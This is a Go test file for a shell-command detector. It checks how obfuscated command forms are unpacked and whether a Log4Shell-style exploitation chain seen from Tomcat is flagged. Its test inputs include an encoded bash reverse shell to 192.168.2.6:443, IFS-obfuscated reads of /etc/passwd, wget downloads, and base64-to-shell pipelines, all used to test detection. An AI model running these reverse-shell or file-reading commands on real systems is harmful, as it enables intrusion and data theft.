package detect

import (
	"reflect"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

func TestShellForms(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{ // OTRF's Log4Shell capture, as Sysmon logged it
			"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
			[]string{"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=|base64 -d|bash -i",
				"bash -i >& /dev/tcp/192.168.2.6/443 0>&1"},
		},
		{"cat${IFS}/etc/passwd", []string{"cat /etc/passwd"}},
		{"wget$IFS$9http://x/a", []string{"wget http://x/a"}},
		{"echo aWQ | base64 -d | sh", nil}, // too short to hide anything
		{"echo L2Jpbi9iYXNoIC1p | base64 --decode | sh", []string{"/bin/bash -i"}},
		{"echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=", nil}, // not decoded by the command
		{"ls ${HOME} {a..z} x{a,b}", nil},                                      // not a command-position brace word
		{"convert in.png -resize 64x64 out.png", nil},
		{"echo //////////////////////w== | base64 -d", nil}, // binary, not text
	} {
		if got := shellForms(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("shellForms(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func FuzzShellForms(f *testing.F) {
	f.Add("{echo,YmFzaCAtaQ==}|{base64,-d}|{bash,-i}")
	f.Add("cat${IFS}/etc/passwd")
	f.Fuzz(func(t *testing.T, s string) {
		forms := shellForms(s)
		if len(forms) > shellFormsMax+3 {
			t.Fatalf("%d forms", len(forms))
		}
	})
}

// TestLog4ShellShape is the shape of OTRF's public Log4Shell capture
// (testdata/public/corpus/otrf-log4shell): Tomcat's java, seen only by
// its connects (no exec, no command line, no parent), looks up the
// attacker's LDAP server; its child runs a brace-and-base64 reverse shell.
// The java process is the application server itself, not a shell acting
// for it: its connects open no channel. The shell is web-server
// exploitation, found through what bash would read.
func TestLog4ShellShape(t *testing.T) {
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := newSynth()
	fs := e.Observe(s.next(&parser.Event{Kind: parser.KindConnect, Syscall: "connect", Success: true, PID: 1340,
		UID: parser.NewID(1001), EUID: parser.NewID(1001), User: "tomcat", Exe: "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java",
		Peer: parser.Addr{Family: "inet", IP: "192.168.2.6", Port: 1389}}), s.tree)
	if f := has(fs, "web-reverse-shell-connect"); f != nil {
		t.Errorf("java's own LDAP lookup taken for a reverse shell: %s", f.Reason)
	}
	fs = e.Observe(s.exec(17790, 1340, 1001, "tomcat", "/", "/bin/bash", "bash", "-c",
		"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"), s.tree)
	f := has(fs, "web-server-exploitation")
	if f == nil {
		t.Fatalf("brace-and-base64 shell under the server: %v", ids(fs))
	}
	if strings.Contains(f.Reason, "1389") || f.Stage == StageCommandAndControl {
		t.Errorf("placed in java's LDAP connection as a channel: stage %v, %s", f.Stage, f.Reason)
	}
}
